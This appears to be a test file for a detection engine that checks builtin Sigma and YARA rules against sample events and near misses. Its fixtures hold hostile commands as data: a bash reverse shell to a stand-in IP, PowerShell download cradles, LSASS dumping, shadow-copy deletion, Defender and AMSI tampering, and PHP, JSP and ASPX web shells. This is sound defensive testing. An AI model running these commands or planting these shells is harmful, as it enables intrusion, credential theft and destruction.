/**
 * The builtin pack: every Sigma rule loads with our loader, follows the authoring
 * conventions and detects a sample of the activity it describes (and not a near miss);
 * every YARA rule compiles with YARA-X and matches a generated sample and nothing benign.
 * Over 400 lines because it holds a sample and a near miss for every builtin rule.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { builtinPackDir } from '../src/rules/index.js';
import { eventFromObject, loadRules } from '../src/sigma/index.js';
import { CORPUS } from './helpers/corpus.js';

const DIR = builtinPackDir();
assert.ok(DIR !== undefined, 'the builtin pack directory resolves from src/');
const SIGMA_DIR = join(DIR, 'sigma');
const YARA_DIR = join(DIR, 'yara');
const sigmaFiles = readdirSync(SIGMA_DIR)
  .filter((f) => f.endsWith('.yml'))
  .sort();
const yaraFiles = readdirSync(YARA_DIR)
  .filter((f) => f.endsWith('.yar'))
  .sort();
const stem = (f: string) => f.replace(/\.(yml|yar)$/, '');
const STEM = /^[a-z0-9]+(?:_[a-z0-9]+){2,}$/;
const UUID_V4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

type Fields = Record<string, string | number>;
const sys = (p: string) => `C:\\Windows\\System32\\${p}`;
const proc = (image: string, commandLine: string, extra: Fields = {}): Fields => ({
  Image: image,
  CommandLine: commandLine,
  ...extra,
});
const RUN_KEY = 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
const DEFENDER_POLICY = 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender';

/** For each rule: an event it must match, and a near miss it must not. */
const SAMPLES: Record<string, readonly [Fields, Fields]> = {
  create_remote_thread_win_lsass_target: [
    { SourceImage: 'C:\\Users\\bob\\x.exe', TargetImage: sys('lsass.exe') },
    { SourceImage: 'C:\\Users\\bob\\x.exe', TargetImage: sys('svchost.exe') },
  ],
  file_event_win_lsass_dump_written: [
    { TargetFilename: 'C:\\Windows\\Temp\\lsass.dmp' },
    { TargetFilename: 'C:\\Windows\\Temp\\lsass-notes.txt' },
  ],
  file_event_win_startup_folder_script: [
    {
      TargetFilename:
        'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs',
    },
    {
      TargetFilename:
        'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.txt',
    },
  ],
  pipe_created_win_c2_framework_default_pipes: [
    { PipeName: '\\MSSE-1234-server' },
    { PipeName: '\\MSSE-1234-client' },
  ],
  proc_access_win_lsass_memory_read: [
    { SourceImage: 'C:\\Users\\bob\\dump.exe', TargetImage: sys('lsass.exe'), GrantedAccess: '0x1010' },
    { SourceImage: sys('wininit.exe'), TargetImage: sys('lsass.exe'), GrantedAccess: '0x1fffff' },
  ],
  proc_creation_win_bcdedit_recovery_tampering: [
    proc(sys('bcdedit.exe'), 'bcdedit /set {default} recoveryenabled No'),
    proc(sys('bcdedit.exe'), 'bcdedit /enum'),
  ],
  proc_creation_win_certutil_remote_download: [
    proc(sys('certutil.exe'), 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe'),
    proc(sys('certutil.exe'), 'certutil.exe -hashfile a.exe SHA256'),
  ],
  proc_creation_win_mshta_remote_or_inline_script: [
    proc(sys('mshta.exe'), 'mshta.exe https://example.invalid/a.hta'),
    proc(sys('mshta.exe'), 'mshta.exe C:\\apps\\tool.hta'),
  ],
  proc_creation_win_net_privileged_group_member_added: [
    proc(sys('net1.exe'), 'net1 localgroup administrators eve /add'),
    proc(sys('net1.exe'), 'net1 localgroup administrators'),
  ],
  proc_creation_win_net_user_added: [
    proc(sys('net.exe'), 'net user eve P@ssw0rd! /add'),
    proc(sys('net.exe'), 'net user eve'),
  ],
  proc_creation_win_ntdsutil_ifm_creation: [
    proc(sys('ntdsutil.exe'), 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\x" q q'),
    proc(sys('ntdsutil.exe'), 'ntdsutil "metadata cleanup"'),
  ],
  proc_creation_win_office_spawns_shell: [
    proc(sys('cmd.exe'), 'cmd.exe /c whoami', {
      ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    }),
    proc(sys('cmd.exe'), 'cmd.exe /c whoami', { ParentImage: 'C:\\Windows\\explorer.exe' }),
  ],
  proc_creation_win_powershell_encoded_argument: [
    proc(sys('WindowsPowerShell\\v1.0\\powershell.exe'), 'powershell.exe -NoProfile -enc SQBFAFgA'),
    proc(sys('WindowsPowerShell\\v1.0\\powershell.exe'), 'powershell.exe -NoProfile -File a.ps1'),
  ],
  proc_creation_win_procdump_lsass_full_dump: [
    proc('C:\\Tools\\pd.exe', 'pd.exe -accepteula -ma lsass.exe out.dmp'),
    proc('C:\\Tools\\pd.exe', 'pd.exe -accepteula -ma notepad.exe out.dmp'),
  ],
  proc_creation_win_reg_save_credential_hives: [
    proc(sys('reg.exe'), 'reg save HKLM\\SAM C:\\Temp\\sam.save'),
    proc(sys('reg.exe'), 'reg query HKLM\\SAM'),
  ],
  proc_creation_win_rundll32_comsvcs_minidump: [
    proc(
      sys('rundll32.exe'),
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\x.dmp full',
    ),
    proc(sys('rundll32.exe'), 'rundll32.exe shell32.dll,Control_RunDLL'),
  ],
  proc_creation_win_sc_service_creation: [
    proc(sys('sc.exe'), 'sc.exe \\\\host create svc binPath= "C:\\Temp\\x.exe"'),
    proc(sys('sc.exe'), 'sc.exe query svc'),
  ],
  proc_creation_win_schtasks_task_creation: [
    proc(sys('schtasks.exe'), 'schtasks /Create /SC ONLOGON /TN upd /TR C:\\Temp\\x.exe'),
    proc(sys('schtasks.exe'), 'schtasks /Query /TN upd'),
  ],
  proc_creation_win_vssadmin_shadow_deletion: [
    proc(sys('vssadmin.exe'), 'vssadmin.exe Delete Shadows /All /Quiet'),
    proc(sys('vssadmin.exe'), 'vssadmin.exe list shadows'),
  ],
  proc_creation_win_wevtutil_log_clearing: [
    proc(sys('wevtutil.exe'), 'wevtutil cl Security'),
    proc(sys('wevtutil.exe'), 'wevtutil qe Security /c:5'),
  ],
  proc_creation_win_whoami_privilege_discovery: [
    proc(sys('whoami.exe'), 'whoami /priv'),
    proc(sys('whoami.exe'), 'whoami'),
  ],
  proc_creation_win_wmic_shadowcopy_deletion: [
    proc(sys('wbem\\WMIC.exe'), 'wmic shadowcopy delete /nointeractive'),
    proc(sys('wbem\\WMIC.exe'), 'wmic shadowcopy list brief'),
  ],
  registry_set_win_defender_policy_disabled: [
    { TargetObject: `${DEFENDER_POLICY}\\DisableAntiSpyware`, Details: 'DWORD (0x00000001)' },
    { TargetObject: `${DEFENDER_POLICY}\\DisableAntiSpyware`, Details: 'DWORD (0x00000000)' },
  ],
  registry_set_win_run_key_suspicious_command: [
    { TargetObject: RUN_KEY, Details: 'powershell.exe -w hidden -File C:\\Users\\Public\\u.ps1' },
    { TargetObject: RUN_KEY, Details: 'C:\\Program Files\\Vendor\\tray.exe' },
  ],
  registry_set_win_run_key_value_set: [
    { TargetObject: RUN_KEY, Details: 'C:\\Program Files\\Vendor\\tray.exe' },
    { TargetObject: 'HKLM\\SOFTWARE\\Vendor\\Settings\\Run', Details: '1' },
  ],
  win_defender_exclusion_added: [
    {
      EventID: 5007,
      'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Temp = 0x0',
    },
    {
      EventID: 5007,
      'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\AvgCPULoadFactor = 0x32',
    },
  ],
  win_defender_malware_detected: [{ EventID: 1116 }, { EventID: 1117 }],
  win_defender_realtime_protection_disabled: [{ EventID: 5001 }, { EventID: 5000 }],
  win_defender_remediation_failed: [{ EventID: 1119 }, { EventID: 1117 }],
  win_defender_scanning_disabled: [{ EventID: 5010 }, { EventID: 5011 }],
  win_powershell_script_amsi_tampering: [
    { EventID: 4104, ScriptBlockText: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')" },
    { EventID: 4104, ScriptBlockText: 'Get-Process | Sort-Object CPU' },
  ],
  win_powershell_script_base64_decode_execute: [
    {
      EventID: 4104,
      ScriptBlockText: 'IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))',
    },
    { EventID: 4104, ScriptBlockText: '$x = [Convert]::FromBase64String($b); Set-Content a.bin $x' },
  ],
  win_powershell_script_compressed_payload: [
    {
      EventID: 4104,
      ScriptBlockText:
        'New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String($p), 0)',
    },
    { EventID: 4104, ScriptBlockText: 'New-Object IO.Compression.GzipStream($file, 0)' },
  ],
  win_powershell_script_credential_dumping_keywords: [
    { EventID: 4104, ScriptBlockText: 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"' },
    { EventID: 4104, ScriptBlockText: 'Get-Credential' },
  ],
  win_powershell_script_defender_preference_tampering: [
    { EventID: 4104, ScriptBlockText: 'Set-MpPreference -DisableRealtimeMonitoring $true' },
    { EventID: 4104, ScriptBlockText: 'Set-MpPreference -SignatureUpdateInterval 4' },
  ],
  win_powershell_script_webclient_download: [
    { EventID: 4104, ScriptBlockText: "(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')" },
    {
      EventID: 4104,
      ScriptBlockText: "(New-Object Net.WebClient).UploadString('http://198.51.100.7/a', $d)",
    },
  ],
  win_security_account_lockout: [{ EventID: 4740 }, { EventID: 4767 }],
  win_security_ad_replication_rights_used: [
    {
      EventID: 4662,
      AccessMask: '0x100',
      SubjectUserName: 'eve',
      Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}',
    },
    {
      EventID: 4662,
      AccessMask: '0x100',
      SubjectUserName: 'DC02$',
      Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}',
    },
  ],
  win_security_admin_share_accessed: [
    { EventID: 5140, ShareName: '\\\\*\\ADMIN$', SubjectUserName: 'eve' },
    { EventID: 5140, ShareName: '\\\\*\\IPC$', SubjectUserName: 'eve' },
  ],
  win_security_audit_policy_auditing_removed: [
    { EventID: 4719, AuditPolicyChanges: '%%8448, %%8450' },
    { EventID: 4719, AuditPolicyChanges: '%%8449' },
  ],
  win_security_audit_policy_changed: [{ EventID: 4719 }, { EventID: 4907 }],
  win_security_dsrm_password_set: [{ EventID: 4794 }, { EventID: 4793 }],
  win_security_explicit_credentials_logon: [
    { EventID: 4648, SubjectUserName: 'bob', TargetUserName: 'admin' },
    { EventID: 4648, SubjectUserName: 'WS01$', TargetUserName: 'admin' },
  ],
  win_security_kerberos_service_ticket_rc4: [
    { EventID: 4769, TicketEncryptionType: '0x17', Status: '0x0', ServiceName: 'svc_sql' },
    { EventID: 4769, TicketEncryptionType: '0x17', Status: '0x0', ServiceName: 'WS01$' },
  ],
  win_security_log_cleared: [
    { EventID: 1102, Provider_Name: 'Microsoft-Windows-Eventlog', SubjectUserName: 'eve' },
    { EventID: 1100, Provider_Name: 'Microsoft-Windows-Eventlog' },
  ],
  win_security_logon_remote_interactive: [
    { EventID: 4624, LogonType: 10, IpAddress: '10.1.2.3' },
    { EventID: 4624, LogonType: 3, IpAddress: '10.1.2.3' },
  ],
  win_security_logon_remote_interactive_public_address: [
    { EventID: 4624, LogonType: 10, IpAddress: '203.0.113.9' },
    { EventID: 4624, LogonType: 10, IpAddress: '192.168.4.20' },
  ],
  win_security_member_added_builtin_privileged_group: [
    { EventID: 4732, TargetSid: 'S-1-5-32-544', MemberName: 'CN=eve' },
    { EventID: 4732, TargetSid: 'S-1-5-32-545', MemberName: 'CN=eve' },
  ],
  win_security_member_added_domain_privileged_group: [
    { EventID: 4728, TargetSid: 'S-1-5-21-1004336348-1177238915-682003330-512' },
    { EventID: 4728, TargetSid: 'S-1-5-21-1004336348-1177238915-682003330-513' },
  ],
  win_security_password_reset_by_other: [{ EventID: 4724 }, { EventID: 4723 }],
  win_security_scheduled_task_created: [{ EventID: 4698 }, { EventID: 4700 }],
  win_security_scheduled_task_suspicious_action: [
    {
      EventID: 4698,
      TaskContent: '<Exec><Command>powershell.exe</Command><Arguments>-w hidden</Arguments></Exec>',
    },
    { EventID: 4698, TaskContent: '<Exec><Command>C:\\Program Files\\Vendor\\update.exe</Command></Exec>' },
  ],
  win_security_scheduled_task_updated: [{ EventID: 4702 }, { EventID: 4701 }],
  win_security_service_installed: [{ EventID: 4697 }, { EventID: 4698 }],
  win_security_service_installed_user_path: [
    { EventID: 4697, ServiceFileName: 'C:\\Users\\Public\\svc.exe' },
    { EventID: 4697, ServiceFileName: 'C:\\Program Files\\Vendor\\svc.exe' },
  ],
  win_security_sid_history_added: [{ EventID: 4765 }, { EventID: 4767 }],
  win_security_user_account_created: [{ EventID: 4720 }, { EventID: 4726 }],
  win_security_user_account_created_machine_like: [
    { EventID: 4720, TargetUserName: 'backup$' },
    { EventID: 4720, TargetUserName: 'backup' },
  ],
  win_system_kernel_driver_service_installed: [
    { EventID: 7045, Provider_Name: 'Service Control Manager', ServiceType: 'kernel mode driver' },
    { EventID: 7045, Provider_Name: 'Service Control Manager', ServiceType: 'user mode service' },
  ],
  win_system_log_cleared: [
    { EventID: 104, Provider_Name: 'Microsoft-Windows-Eventlog', Channel: 'System' },
    { EventID: 104, Provider_Name: 'Some-Other-Provider' },
  ],
  win_system_service_installed: [
    { EventID: 7045, Provider_Name: 'Service Control Manager' },
    { EventID: 7036, Provider_Name: 'Service Control Manager' },
  ],
  win_system_service_installed_suspicious_command: [
    {
      EventID: 7045,
      Provider_Name: 'Service Control Manager',
      ImagePath: '%COMSPEC% /b /c start /b /min powershell -nop',
    },
    {
      EventID: 7045,
      Provider_Name: 'Service Control Manager',
      ImagePath: 'C:\\Program Files\\Vendor\\svc.exe',
    },
  ],
  win_taskscheduler_task_deleted: [{ EventID: 141 }, { EventID: 140 }],
  win_taskscheduler_task_registered: [{ EventID: 106 }, { EventID: 140 }],
  wmi_event_win_command_line_consumer: [
    { EventID: 20, Type: 'Command Line', Destination: 'powershell.exe -nop' },
    { EventID: 20, Type: 'Script', Destination: 'x.vbs' },
  ],
  wmi_event_win_subscription_activity: [{ EventID: 21 }, { EventID: 22 }],
};

test('the builtin pack resolves from src/ under tsx and from dist/src/ after the build, and only inside its package', () => {
  const repo = join(import.meta.dirname, '..');
  assert.equal(DIR, join(repo, 'src', 'rules', 'builtin'));
  assert.equal(builtinPackDir(join(repo, 'dist', 'src', 'rules', 'builtin.js')), DIR);
  const elsewhere = mkdtempSync(join(tmpdir(), 'tae-pkg-'));
  mkdirSync(join(elsewhere, 'dist', 'src', 'rules'), { recursive: true });
  writeFileSync(join(elsewhere, 'package.json'), '{}');
  assert.equal(builtinPackDir(join(elsewhere, 'dist', 'src', 'rules', 'builtin.js')), undefined);
});

test('the builtin pack has at least 40 Sigma and 15 YARA rules, named category_subcategory_description', () => {
  assert.ok(sigmaFiles.length >= 40, `${sigmaFiles.length} Sigma rules`);
  assert.ok(yaraFiles.length >= 15, `${yaraFiles.length} YARA rules`);
  for (const f of [...sigmaFiles, ...yaraFiles]) assert.match(stem(f), STEM, f);
});

test('every builtin Sigma rule loads cleanly and carries id, author, level, status, tags and logsource', () => {
  const ids = new Set<string>();
  for (const f of sigmaFiles) {
    const loaded = loadRules(readFileSync(join(SIGMA_DIR, f), 'utf8'), f);
    assert.deepEqual(loaded.diagnostics, [], f);
    assert.equal(loaded.rules.length, 1, f);
    const rule = loaded.rules[0]!;
    assert.match(rule.id ?? '', UUID_V4, `${f}: id`);
    assert.ok(!ids.has(rule.id!), `${f}: duplicate id`);
    ids.add(rule.id!);
    assert.equal(rule.author, 'threat-analysis-engine', f);
    assert.ok(rule.level !== undefined && rule.status === 'experimental', f);
    assert.ok((rule.description ?? '').length > 40, `${f}: description`);
    assert.ok(rule.tags.length >= 2 && rule.tags.every((t) => /^attack\.[a-z0-9.-]+$/.test(t)), `${f}: tags`);
    assert.ok(
      rule.tags.some((t) => /^attack\.t\d{4}/.test(t)),
      `${f}: technique tag`,
    );
    assert.equal(rule.logsource.product, 'windows', f);
    assert.ok(rule.logsource.service !== undefined || rule.logsource.category !== undefined, f);
  }
});

test('every builtin Sigma rule matches its sample event and not the near miss', () => {
  assert.deepEqual(Object.keys(SAMPLES).sort(), sigmaFiles.map(stem), 'one sample pair per rule');
  for (const f of sigmaFiles) {
    const rule = loadRules(readFileSync(join(SIGMA_DIR, f), 'utf8'), f).rules[0]!;
    const [hit, miss] = SAMPLES[stem(f)]!;
    assert.equal(rule.matches(eventFromObject(hit)), true, `${f} should match ${JSON.stringify(hit)}`);
    assert.equal(rule.matches(eventFromObject(miss)), false, `${f} should not match ${JSON.stringify(miss)}`);
  }
});

test('builtin rule names do not collide with the SigmaHQ or YARA corpus names', {
  skip: existsSync(CORPUS) ? false : `corpus not found at ${CORPUS}`,
}, () => {
  const names = new Set<string>();
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true }))
      if (e.isDirectory()) walk(join(d, e.name));
      else names.add(e.name.replace(/\.(yml|yaml|yar|yara)$/, ''));
  };
  walk(join(CORPUS, 'sigma'));
  walk(join(CORPUS, 'yara'));
  for (const f of [...sigmaFiles, ...yaraFiles])
    assert.ok(!names.has(stem(f)), `${f} collides with a corpus name`);
});

// ---- YARA --------------------------------------------------------------------------------

interface YaraMatch {
  readonly ruleIdentifier: string;
  readonly meta: Readonly<Record<string, string | number | boolean>>;
}
interface YaraModule {
  compile(source: string, options?: { enableIncludes?: boolean }): { scan(data: Uint8Array): YaraMatch[] };
  validate(source: string): { warnings: { message: string }[]; errors: { message: string }[] };
}
const yara = createRequire(import.meta.url)('@litko/yara-x-linux-x64-gnu') as YaraModule;

/** A PE32 image with the given sections, enough for YARA-X's pe module. */
function pe(
  sections: readonly { name: string; data: Uint8Array }[],
  stub = 'This program cannot be run in DOS mode.',
): Uint8Array {
  const headerSize = 0x400;
  const rawSizes = sections.map((s) => Math.ceil(s.data.length / 0x200) * 0x200);
  const out = new Uint8Array(headerSize + rawSizes.reduce((a, b) => a + b, 0));
  const v = new DataView(out.buffer);
  v.setUint16(0, 0x5a4d, true);
  v.setUint32(0x3c, 0x80, true);
  out.set(new TextEncoder().encode(stub), 0x4e);
  v.setUint32(0x80, 0x00004550, true);
  v.setUint16(0x84, 0x14c, true);
  v.setUint16(0x86, sections.length, true);
  v.setUint16(0x94, 0xe0, true);
  v.setUint16(0x96, 0x102, true);
  const opt = 0x98;
  v.setUint16(opt, 0x10b, true);
  v.setUint32(opt + 16, 0x1000, true);
  v.setUint32(opt + 28, 0x400000, true);
  v.setUint32(opt + 32, 0x1000, true);
  v.setUint32(opt + 36, 0x200, true);
  v.setUint16(opt + 40, 4, true);
  v.setUint16(opt + 48, 4, true);
  v.setUint32(opt + 56, 0x1000 * (sections.length + 1), true);
  v.setUint32(opt + 60, headerSize, true);
  v.setUint16(opt + 68, 2, true);
  v.setUint32(opt + 92, 16, true);
  let raw = headerSize;
  sections.forEach((s, i) => {
    const h = opt + 0xe0 + i * 40;
    out.set(new TextEncoder().encode(s.name.slice(0, 8)), h);
    v.setUint32(h + 8, s.data.length, true);
    v.setUint32(h + 12, 0x1000 * (i + 1), true);
    v.setUint32(h + 16, rawSizes[i]!, true);
    v.setUint32(h + 20, raw, true);
    v.setUint32(h + 36, 0x60000020, true);
    out.set(s.data, raw);
    raw += rawSizes[i]!;
  });
  return out;
}

const text = (s: string) => new TextEncoder().encode(s);
const utf16 = (s: string) => new Uint8Array(Buffer.from(s, 'utf16le'));
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
/** Deterministic bytes of high entropy (xorshift), not random per run. */
function noise(n: number): Uint8Array {
  const out = new Uint8Array(n);
  let x = 0x9e3779b9;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}
const code = new Uint8Array(512).fill(0x90);
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'].join('');

const YARA_SAMPLES: Record<string, readonly [Uint8Array, Uint8Array]> = {
  c2_framework_default_pipe_names: [utf16('\\\\.\\pipe\\msagent_4a'), text('\\\\.\\pipe\\spoolss')],
  doc_macro_autoexec_shell: [
    text('Sub AutoOpen()\r\n  Shell("cmd /c calc")\r\nEnd Sub'),
    text('Sub AutoOpen()\r\n  MsgBox "hi"\r\nEnd Sub'),
  ],
  doc_rtf_embedded_object: [
    text('{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}'),
    text('{\\rtf1\\ansi Hello}'),
  ],
  hacktool_credential_dumper_commands: [
    text('usage: privilege::debug then sekurlsa::logonpasswords'),
    text('usage: sekurlsa::logonpasswords'),
  ],
  hacktool_kerberos_ticket_tool: [
    utf16('asktgt /user:x  kerberoast /outfile:h.txt  s4u /impersonateuser:admin'),
    utf16('asktgt /user:x only'),
  ],
  hacktool_lsass_minidump_api: [
    pe([{ name: '.text', data: concat(text('MiniDumpWriteDump\0SeDebugPrivilege\0'), utf16('lsass.exe')) }]),
    pe([{ name: '.text', data: text('MiniDumpWriteDump\0SeDebugPrivilege\0') }]),
  ],
  pe_embedded_pe_payload: [
    pe([{ name: '.rsrc', data: pe([{ name: '.text', data: code }]) }]),
    pe([{ name: '.text', data: code }]),
  ],
  pe_high_entropy_section: [
    pe([{ name: '.data', data: noise(8192) }]),
    pe([{ name: '.data', data: new Uint8Array(8192).fill(0x41) }]),
  ],
  pe_packer_upx_sections: [
    pe([
      { name: 'UPX0', data: code },
      { name: 'UPX1', data: code },
    ]),
    pe([
      { name: 'UPX0', data: code },
      { name: '.text', data: code },
    ]),
  ],
  ransom_note_encrypted_files: [
    text('All your files have been encrypted! To decrypt them visit abcdefghijklmnop234567.onion'),
    text('All your files have been backed up. Visit example.org to restore them.'),
  ],
  script_lsass_dump_commands: [
    text('procdump64.exe -accepteula -ma lsass.exe C:\\t\\l.dmp'),
    text('procdump64.exe -accepteula -ma notepad.exe C:\\t\\n.dmp'),
  ],
  script_powershell_download_cradle: [
    text("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"),
    text("(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a') | Out-File a.txt"),
  ],
  script_powershell_encoded_launcher: [
    text(`powershell.exe -NoP -W Hidden -enc ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA'}`),
    text('powershell.exe -NoP -File C:\\scripts\\maintenance.ps1'),
  ],
  script_reverse_shell_oneliner: [
    text('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
    text('bash -i -c "echo hello"'),
  ],
  script_shadow_copy_deletion: [
    text('vssadmin.exe delete shadows /all /quiet'),
    text('vssadmin.exe list shadows'),
  ],
  test_file_eicar_string: [text(EICAR), text(`prefix ${EICAR}`)],
  webshell_aspx_process_start: [
    text(
      '<%@ Page Language="C#" %><% var p = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); %>',
    ),
    text('<%@ Page Language="C#" %><% Response.Write(Request.Form["c"]); %>'),
  ],
  webshell_jsp_runtime_exec: [
    text('<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    text('<% out.println(request.getParameter("name")); %>'),
  ],
  webshell_php_eval_request: [
    text('<?php eval($_POST["x"]); ?>'),
    text('<?php echo htmlspecialchars($_POST["x"]); ?>'),
  ],
};

test('every builtin YARA rule compiles with YARA-X without warnings and has description and author meta', () => {
  for (const f of yaraFiles) {
    const source = readFileSync(join(YARA_DIR, f), 'utf8');
    const { errors, warnings } = yara.validate(source);
    assert.deepEqual([...errors, ...warnings], [], f);
    assert.match(source, /^\s+description = "[^"]{20,}"$/m, `${f}: description`);
    assert.match(source, /^\s+author = "threat-analysis-engine"$/m, `${f}: author`);
    assert.match(source, new RegExp(`^rule tae_${stem(f)}\\b`, 'm'), `${f}: rule named after the file`);
  }
});

test('every builtin YARA rule matches its generated sample, not the near miss, and the rules stay apart', () => {
  assert.deepEqual(Object.keys(YARA_SAMPLES).sort(), yaraFiles.map(stem), 'one sample pair per rule');
  const all = yara.compile(yaraFiles.map((f) => readFileSync(join(YARA_DIR, f), 'utf8')).join('\n'), {
    enableIncludes: false,
  });
  for (const f of yaraFiles) {
    const id = `tae_${stem(f)}`;
    const [hit, miss] = YARA_SAMPLES[stem(f)]!;
    const hits = all.scan(hit).map((m) => m.ruleIdentifier);
    assert.ok(hits.includes(id), `${id} should match its sample (got ${hits.join(', ') || 'nothing'})`);
    assert.ok(!all.scan(miss).some((m) => m.ruleIdentifier === id), `${id} should not match the near miss`);
  }
  assert.deepEqual(all.scan(new Uint8Array(0)), []);
  assert.deepEqual(all.scan(text('Quarterly report: revenue grew in every region.\n')), []);
  assert.deepEqual(all.scan(pe([{ name: '.text', data: code }])), []);
});
